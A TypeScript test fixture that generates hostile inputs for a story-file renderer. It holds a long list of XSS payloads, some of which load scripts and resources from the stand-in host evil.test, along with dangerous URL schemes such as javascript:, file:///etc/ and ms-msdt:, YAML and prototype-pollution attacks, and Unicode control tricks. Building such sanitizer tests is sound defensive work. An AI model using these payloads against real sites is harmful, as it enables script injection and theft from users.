/*
 * Story files that try to run something, to reach somebody, or to be read wrong: each kind of trick in each place of a
 * story. In a page, what runs sets `window.ran`, and what asks for something asks `evil.test`.
 */

export interface HostileText {
  name: string;
  text: string;
  /** Words of it that no reading may lose. */
  kept: string[];
}

const run = 'window.ran=1';
const evil = 'https://evil.test';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${evil}/a.js></SCRIPT>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml <script>${run}</script> ?>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&#x3C;img src=x onerror=${run}&#x3E;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `\\<img src=x onerror=${run}\\>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror=${run}//`,
  `<img src="${evil}/a.png">`,
  `<img srcset="${evil}/a.png 2x" loading=eager>`,
  `<picture><source srcset=${evil}/a.png><img src=x></picture>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><image href=${evil}/a.svg /></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src=${evil}/a.swf>`,
  `<link rel=stylesheet href=${evil}/a.css>`,
  `<link rel=prefetch href=${evil}/a>`,
  `<style>@import url(${evil}/a.css);</style>`,
  `<b style="background:url(${evil}/a.png)">x</b>`,
  `<base href=${evil}/>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<form action=${evil}><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<template><script>${run}</script></template>`,
  `<noscript><img src=x onerror=${run}></noscript>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<title></title><img src=x onerror=${run}>`,
  `<portal src=${evil}></portal>`,
  `<a href=# onmouseover=${run} onfocus=${run} autofocus>x</a>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
];

/** Where in a story; `¤` is the trick. */
const places: Readonly<Record<string, string>> = {
  'the title': '## ¤ Case\n\n> - S: before\n> - R: after',
  'a row': '## Case\n\n> - S: before ¤\n> - R: after',
  'the answer': '## Case\n\n> - S: row\n\n**S:** before ¤ between\n\n**R:** after',
  'a paragraph of its own': '## Case\n\n**S:** before\n\n¤\n\n**R:** after',
  'an item': '## Case\n\n**S:** before\n\n- ¤\n- between\n\n**R:** after',
  'a cell': '## Case\n\n| S | before ¤ |\n|---|---|\n| R | after |',
  code: '## Case\n\n**S:** before `¤` between\n\n```\n¤\n```\n\n**R:** after',
  'a question': '## Case\n\n*Why ¤ this?*\n\n**S:** before\n\n**R:** after',
  'a follow-up': '## Case\n\n**S:** before\n\n**R:** after\n\n### Follow-ups\n\n- Why ¤ this?',
};

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '&#106;avascript:',
  'javascript&colon;',
  'javascript%3A',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'blob:',
  'file:///etc/',
  'ftp://evil.test/',
  'http://evil.test/',
  '//evil.test/',
  'view-source:https://evil.test/',
  'ms-msdt:/id',
  'app://offbook/',
];

/** The ways to write a link to `¤`. */
const links: Readonly<Record<string, string>> = {
  inline: '[x](¤a)',
  'in angles': '[x](<¤a>)',
  'with a title': '[x](¤a "y")',
  'by reference': '[x][r]\n\n[r]: ¤a',
  'by a short reference': '[r]\n\n[r]: ¤a',
  'an autolink': '<¤a>',
  'an image': '![x](¤a)',
  'an image in a link': '[![x](¤b)](¤a)',
  'an anchor': '<a href="¤a">x</a>',
  'an unquoted anchor': '<a href=¤a>x</a>',
  bare: 'x ¤a x',
  'after a good one': 'https://a.example/?u=¤a',
};

const others: Readonly<Record<string, string>> = {
  'YAML tags': '---\ntitle: !!js/function "function(){ window.ran = 1 }"\n---\n\n**S:** before\n\n**R:** after',
  'YAML aliases':
    '---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\ntags: [*c, *c]\n---\n\n**S:** before\n\n**R:** after',
  'YAML merges': '---\na: &a { title: x }\n<<: *a\n---\n\n**S:** before\n\n**R:** after',
  'a document of YAML that never ends': '---\ntitle: "x\n\n**S:** before\n\n**R:** after',
  'keys of prototypes in front matter':
    '---\n__proto__: { ran: 1 }\nconstructor: { prototype: { ran: 1 } }\ntoString: x\n---\n\n**S:** before\n\n**R:** after',
  'keys of prototypes as labels': '## __proto__\n\n**__proto__:** before\n\n**constructor:** between\n\n**R:** after',
  'keys of prototypes as references': '## Case\n\n**S:** before [x][__proto__] [y][constructor]\n\n**R:** after',
  'keys of prototypes as groups': '# constructor\n\n## toString\n\n**S:** before\n\n**R:** after',
  'characters that turn text around':
    '## Case \u202Eesac\u202C\n\n**S:** before \u202E\u2066\u2067 between\n\n**R:** after',
  'characters that nobody sees':
    '## Ca\u200Bse\u2060\uFEFF\n\n**S:** before \u00AD\u200D \u034F between\n\n**R:** after',
  'halves of characters': '## Case \uD83D\n\n**S:** before \uDE00\uD83D between\n\n**R:** after',
  'control characters': '## Case\u0007\u001B[31m\n\n**S:** before \u0000\u0008\u007F\u009B between\n\n**R:** after',
  'ends of lines of all kinds': '## Case\r\r**S:** before\u2028\u2029\u0085\u000B\u000C between\r\n\r\n**R:** after',
  'a thousand marks on a letter': `## Case\n\n**S:** before e${'\u0301'.repeat(1000)} between\n\n**R:** after`,
  'a word of ten thousand letters': `## Case\n\n**S:** before ${'x'.repeat(10_000)} between\n\n**R:** after`,
  'quotes, 99 deep': `## Case\n\n**S:** before\n\n${'>'.repeat(99)} between\n\n**R:** after`,
  'lists, 99 deep': `## Case\n\n**S:** before\n\n${'- '.repeat(99)}between\n\n**R:** after`,
  'brackets, a thousand deep': `## Case\n\n**S:** before ${'['.repeat(1000)}x${']'.repeat(1000)} between\n\n**R:** after`,
  'an unfinished quote in a list before a label': '* before, \n  > 3. \n**T:** between\n\n**R:** after',
  'a comment without an end': '## Case\n\n**S:** before\n\n**R:** after\n\n<!-- between',
  'a table of a thousand columns': `## Case\n\n**S:** before\n\n|${'a|'.repeat(1000)}\n|${'-|'.repeat(1000)}\n\n**R:** after`,
};

/** Each by a name of its own. */
export function hostileTexts(): HostileText[] {
  const placed = scripts.flatMap((script) =>
    Object.entries(places).map(([place, frame]) => [`${script} in ${place}`, filled(frame, script)] as const),
  );
  const linked = schemes.flatMap((scheme) =>
    Object.entries(links).map(([form, link]) => {
      const text = `## Case\n\n> - S: before ${link.split('\n')[0]}\n\n**S:** between ${link}\n\n**R:** after`;
      return [`${JSON.stringify(scheme)} ${form}`, filled(text, scheme)] as const;
    }),
  );
  return [...placed, ...linked, ...Object.entries(others)].map(([name, text]) => ({
    name,
    text,
    kept: ['before', 'between', 'after'].filter((word) => text.includes(word)),
  }));
}

function filled(frame: string, trick: string): string {
  return frame.replaceAll('¤', () => trick);
}
